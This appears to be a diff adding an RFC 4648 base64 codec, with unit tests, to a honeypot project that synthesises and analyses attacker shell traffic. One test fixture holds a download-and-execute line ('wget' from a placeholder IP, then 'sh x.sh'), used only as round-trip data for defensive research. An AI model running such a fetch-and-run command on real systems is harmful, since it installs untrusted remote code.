@@ -1,0 +1,184 @@
+//! RFC 4648 base64 (standard alphabet, `=` padding).
+//!
+//! The `mdrfckr` actor delivers its cryptominer / shellbot / cleanup payloads
+//! as base64-encoded shell scripts piped into `base64 -d | sh` (paper §9).
+//! The honeypot shell emulator must both *encode* (when synthesising attacker
+//! traffic) and *decode* (when the analysis pipeline inspects captured
+//! scripts), so the codec lives in the foundation crate.
+
+const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+/// Errors returned by [`decode`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DecodeError {
+    /// A byte outside the alphabet (and not padding/whitespace) was found.
+    InvalidByte { position: usize, byte: u8 },
+    /// The input (ignoring whitespace) was not a multiple of 4 chars.
+    InvalidLength,
+    /// Padding appeared somewhere other than the final 1–2 positions.
+    InvalidPadding,
+}
+
+impl std::fmt::Display for DecodeError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            DecodeError::InvalidByte { position, byte } => {
+                write!(f, "invalid base64 byte 0x{byte:02x} at position {position}")
+            }
+            DecodeError::InvalidLength => write!(f, "base64 input length not a multiple of 4"),
+            DecodeError::InvalidPadding => write!(f, "misplaced base64 padding"),
+        }
+    }
+}
+
+impl std::error::Error for DecodeError {}
+
+/// Encodes `data` with the standard alphabet and padding.
+pub fn encode(data: &[u8]) -> String {
+    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
+    for chunk in data.chunks(3) {
+        let b0 = chunk[0] as u32;
+        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
+        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
+        let n = (b0 << 16) | (b1 << 8) | b2;
+        out.push(ALPHABET[(n >> 18) as usize & 0x3f] as char);
+        out.push(ALPHABET[(n >> 12) as usize & 0x3f] as char);
+        if chunk.len() > 1 {
+            out.push(ALPHABET[(n >> 6) as usize & 0x3f] as char);
+        } else {
+            out.push('=');
+        }
+        if chunk.len() > 2 {
+            out.push(ALPHABET[n as usize & 0x3f] as char);
+        } else {
+            out.push('=');
+        }
+    }
+    out
+}
+
+fn decode_digit(b: u8) -> Option<u8> {
+    match b {
+        b'A'..=b'Z' => Some(b - b'A'),
+        b'a'..=b'z' => Some(b - b'a' + 26),
+        b'0'..=b'9' => Some(b - b'0' + 52),
+        b'+' => Some(62),
+        b'/' => Some(63),
+        _ => None,
+    }
+}
+
+/// Decodes standard base64. ASCII whitespace is skipped, matching the
+/// behaviour of `base64 -d` which attackers rely on when piping scripts.
+pub fn decode(input: &str) -> Result<Vec<u8>, DecodeError> {
+    let mut digits: Vec<u8> = Vec::with_capacity(input.len());
+    let mut pad = 0usize;
+    for (i, &b) in input.as_bytes().iter().enumerate() {
+        if b.is_ascii_whitespace() {
+            continue;
+        }
+        if b == b'=' {
+            pad += 1;
+            continue;
+        }
+        if pad > 0 {
+            // Data after padding.
+            return Err(DecodeError::InvalidPadding);
+        }
+        match decode_digit(b) {
+            Some(d) => digits.push(d),
+            None => return Err(DecodeError::InvalidByte { position: i, byte: b }),
+        }
+    }
+    if pad > 2 || (pad > 0 && digits.len() % 4 == 0) {
+        // Three '=' in a row, or padding that completes nothing ("AAAA=").
+        return Err(DecodeError::InvalidPadding);
+    }
+    if (digits.len() + pad) % 4 != 0 {
+        return Err(DecodeError::InvalidLength);
+    }
+    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
+    let mut iter = digits.chunks_exact(4);
+    for quad in &mut iter {
+        let n = ((quad[0] as u32) << 18)
+            | ((quad[1] as u32) << 12)
+            | ((quad[2] as u32) << 6)
+            | quad[3] as u32;
+        out.push((n >> 16) as u8);
+        out.push((n >> 8) as u8);
+        out.push(n as u8);
+    }
+    match iter.remainder() {
+        [] => {}
+        [a, b] => {
+            let n = ((*a as u32) << 18) | ((*b as u32) << 12);
+            out.push((n >> 16) as u8);
+        }
+        [a, b, c] => {
+            let n = ((*a as u32) << 18) | ((*b as u32) << 12) | ((*c as u32) << 6);
+            out.push((n >> 16) as u8);
+            out.push((n >> 8) as u8);
+        }
+        _ => return Err(DecodeError::InvalidLength),
+    }
+    Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn rfc4648_vectors() {
+        let vectors = [
+            ("", ""),
+            ("f", "Zg=="),
+            ("fo", "Zm8="),
+            ("foo", "Zm9v"),
+            ("foob", "Zm9vYg=="),
+            ("fooba", "Zm9vYmE="),
+            ("foobar", "Zm9vYmFy"),
+        ];
+        for (plain, enc) in vectors {
+            assert_eq!(encode(plain.as_bytes()), enc);
+            assert_eq!(decode(enc).unwrap(), plain.as_bytes());
+        }
+    }
+
+    #[test]
+    fn whitespace_is_skipped() {
+        assert_eq!(decode("Zm9v\nYmFy\n").unwrap(), b"foobar");
+        assert_eq!(decode("Z m 9 v").unwrap(), b"foo");
+    }
+
+    #[test]
+    fn rejects_invalid_byte() {
+        assert!(matches!(
+            decode("Zm9*"),
+            Err(DecodeError::InvalidByte { position: 3, byte: b'*' })
+        ));
+    }
+
+    #[test]
+    fn rejects_data_after_padding() {
+        assert_eq!(decode("Zg==Zg=="), Err(DecodeError::InvalidPadding));
+    }
+
+    #[test]
+    fn rejects_bad_lengths() {
+        assert_eq!(decode("Zm9vY"), Err(DecodeError::InvalidLength));
+        assert_eq!(decode("AAAA="), Err(DecodeError::InvalidPadding));
+    }
+
+    #[test]
+    fn roundtrip_binary() {
+        let data: Vec<u8> = (0..=255u8).collect();
+        assert_eq!(decode(&encode(&data)).unwrap(), data);
+    }
+
+    #[test]
+    fn shell_script_roundtrip() {
+        let script = "#!/bin/sh\ncd /tmp && wget http://203.0.113.7/x.sh && sh x.sh\n";
+        assert_eq!(decode(&encode(script.as_bytes())).unwrap(), script.as_bytes());
+    }
+}
